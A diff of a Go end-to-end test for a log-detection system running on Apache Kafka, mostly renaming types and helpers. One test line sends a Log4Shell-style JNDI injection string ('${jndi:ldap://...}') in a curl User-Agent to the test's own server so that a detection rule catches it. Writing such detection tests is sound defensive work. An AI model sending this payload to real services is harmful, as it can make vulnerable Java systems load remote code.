@@ -47,10 +47,10 @@ logs:
 `
 )
 
-// onKafka is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines and a collector as processes of
+// kafkaSetup is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines and a collector as processes of
 // their own, and the world outside behind eth0. There is no dockerd: the test writes the containers' log files.
-type onKafka struct {
-	*system
+type kafkaSetup struct {
+	*e2eSystem
 	libs string
 	logs []*logWriter
 	stop chan struct{}
@@ -83,8 +83,8 @@ func kafkaLibs(t *testing.T) string {
 	return filepath.Join(dir, "libs")
 }
 
-// newOnKafka starts everything but the collector.
-func newOnKafka(t *testing.T) *onKafka {
+// newKafkaSetup starts everything but the collector.
+func newKafkaSetup(t *testing.T) *kafkaSetup {
 	libs := kafkaLibs(t)
 	if os.Geteuid() != 0 {
 		t.Skip("network namespaces need root")
@@ -92,7 +92,7 @@ func newOnKafka(t *testing.T) *onKafka {
 	h := &dockerHost{t: t, dir: t.TempDir(), ns: fmt.Sprintf("tgkafka%d", os.Getpid()), out: fmt.Sprintf("tgkout%d", os.Getpid())}
 	t.Cleanup(h.down)
 	h.network()
-	k := &onKafka{libs: libs, stop: make(chan struct{}), system: &system{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}}}
+	k := &kafkaSetup{libs: libs, stop: make(chan struct{}), e2eSystem: &e2eSystem{dockerHost: h, bin: binary(t), state: filepath.Join(h.dir, "state"), procs: map[string]*exec.Cmd{}}}
 	t.Cleanup(k.end)
 	for i, name := range []string{"collect", "analyze", "analyze-b", "store"} {
 		h.check(os.WriteFile(filepath.Join(h.dir, name+".yaml"), fmt.Appendf(nil, fmt.Sprintf(onKafkaConfig, h.dir), 9464+i), 0o600))
@@ -107,27 +107,27 @@ func newOnKafka(t *testing.T) *onKafka {
 		}
 		return ""
 	})
-	k.wary()
+	k.requireNoStrayProcesses()
 	k.start("analyze", nil, "analyze")
 	return k
 }
 
-func (k *onKafka) java(args ...string) *exec.Cmd {
+func (k *kafkaSetup) java(args ...string) *exec.Cmd {
 	return k.inside("java", append([]string{kafkaHeap, "-XX:+UseSerialGC", "-XX:TieredStopAtLevel=1", "-Dorg.slf4j.simpleLogger.defaultLogLevel=warn", "-cp", k.libs + "/*"}, args...)...)
 }
 
-func (k *onKafka) formatKafka() {
+func (k *kafkaSetup) formatKafka() {
 	conf := filepath.Join(k.dir, "server.properties")
 	k.check(os.WriteFile(conf, fmt.Appendf(nil, kafkaConfig, filepath.Join(k.dir, "kafka")), 0o600))
 	id := base64.RawURLEncoding.EncodeToString([]byte("tidegate's test!"))
 	k.must(k.java("kafka.tools.StorageTool", "format", "-t", id, "-c", conf))
 }
 
-func (k *onKafka) startKafka() {
+func (k *kafkaSetup) startKafka() {
 	k.background("kafka", k.java("kafka.Kafka", filepath.Join(k.dir, "server.properties")))
 }
 
-func (k *onKafka) waitKafka() {
+func (k *kafkaSetup) waitKafka() {
 	k.t.Helper()
 	k.eventually("kafka answers", 60*time.Second, func() string {
 		if err := k.inside("bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/9092").Run(); err != nil {
@@ -137,7 +137,7 @@ func (k *onKafka) waitKafka() {
 	})
 }
 
-func (k *onKafka) startCollector() {
+func (k *kafkaSetup) startCollector() {
 	k.t.Helper()
 	k.start("collect", nil, "collect")
 	k.waitMetrics(9464)
@@ -145,7 +145,7 @@ func (k *onKafka) startCollector() {
 }
 
 // end stops what still runs: first those that speak to others.
-func (k *onKafka) end() {
+func (k *kafkaSetup) end() {
 	select {
 	case <-k.stop:
 	default:
@@ -161,8 +161,8 @@ func (k *onKafka) end() {
 	k.terminate(order...)
 }
 
-// wary ends the test where something has gone wrong already: what comes after would only wait.
-func (k *onKafka) wary() {
+// requireNoStrayProcesses ends the test where something has gone wrong already: what comes after would only wait.
+func (k *kafkaSetup) requireNoStrayProcesses() {
 	k.t.Helper()
 	if k.t.Failed() {
 		k.t.FailNow()
@@ -170,7 +170,7 @@ func (k *onKafka) wary() {
 }
 
 // waitKill waits until a process has killed itself at its seam.
-func (k *onKafka) waitKill(name string) {
+func (k *kafkaSetup) waitKill(name string) {
 	k.t.Helper()
 	cmd := k.procs[name]
 	k.waitDeath(name)
@@ -181,7 +181,7 @@ func (k *onKafka) waitKill(name string) {
 
 // A logWriter writes the log of one container as dockerd does, and rotates it.
 type logWriter struct {
-	k      *onKafka
+	k      *kafkaSetup
 	id     string
 	dir    string
 	rotate int // after so many lines
@@ -190,7 +190,7 @@ type logWriter struct {
 	caught atomic.Int64 // of them a rule catches
 }
 
-func (k *onKafka) writer(n, rotate, keep int) {
+func (k *kafkaSetup) writer(n, rotate, keep int) {
 	id := fmt.Sprintf("%064x", 0xc0ffee00+n)
 	w := &logWriter{k: k, id: id, dir: filepath.Join(k.dir, "root", "containers", id), rotate: rotate, keep: keep}
 	k.check(os.MkdirAll(w.dir, 0o700))
@@ -248,9 +248,9 @@ func (w *logWriter) run() error {
 }
 
 // visit sends n requests from outside, and one that a rule catches.
-func (k *onKafka) visit(name string, n int) {
+func (k *kafkaSetup) visit(name string, n int) {
 	k.t.Helper()
-	k.must(k.visitor(work{Case: name, N: n, HTTP: hostIP + ":8080", Every: 5 * time.Millisecond}))
+	k.must(k.visitor(workload{Case: name, N: n, HTTP: hostIP + ":8080", Every: 5 * time.Millisecond}))
 	k.must(k.outside("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", "http://"+hostIP+":8080/probe/"+name))
 }
 
@@ -260,11 +260,11 @@ func TestKafka(t *testing.T) {
 	if testing.Short() {
 		t.Skip("it starts Apache Kafka")
 	}
-	k := newOnKafka(t)
+	k := newKafkaSetup(t)
 	self, err := os.Executable()
 	k.check(err)
 	web := k.inside(self)
-	web.Env = append(os.Environ(), "TIDEGATE_WORK="+work{Serve: hostIP + ":8080"}.String())
+	web.Env = append(os.Environ(), "TIDEGATE_WORK="+workload{Serve: hostIP + ":8080"}.String())
 	k.background("web", web)
 	k.waitMetrics(9465)
 	k.start("analyze-b", []string{"TIDEGATE_KILL_AT=" + engine.AfterInsert + ":3"}, "analyze")
@@ -304,20 +304,20 @@ func TestKafka(t *testing.T) {
 	close(k.stop)
 	k.done.Wait()
 
-	k.wary()
+	k.requireNoStrayProcesses()
 	k.verdicts(visits, n)
 	k.expectAtLeast("what was acknowledged is there", `SELECT count() FROM events`, acked)
 }
 
 // expect is that of a system, but does not go on after a failure.
-func (k *onKafka) expect(what, sql string, want ...string) {
+func (k *kafkaSetup) expect(what, sql string, want ...string) {
 	k.t.Helper()
-	k.system.expect(what, sql, want...)
-	k.wary()
+	k.e2eSystem.expect(what, sql, want...)
+	k.requireNoStrayProcesses()
 }
 
 // verdicts compares the truth with what is stored.
-func (k *onKafka) verdicts(visits, n int) {
+func (k *kafkaSetup) verdicts(visits, n int) {
 	k.t.Helper()
 	for i := range visits {
 		k.expect("requests", fmt.Sprintf(`SELECT count(), uniqExact("event.id"), uniqExact("url.path"), countIf("event.partial") FROM events WHERE "event.dataset" = 'http' AND "url.path" LIKE '/e2e/k%d/%%'`, i), fmt.Sprintf("%d %d %d 0", n, n, n))
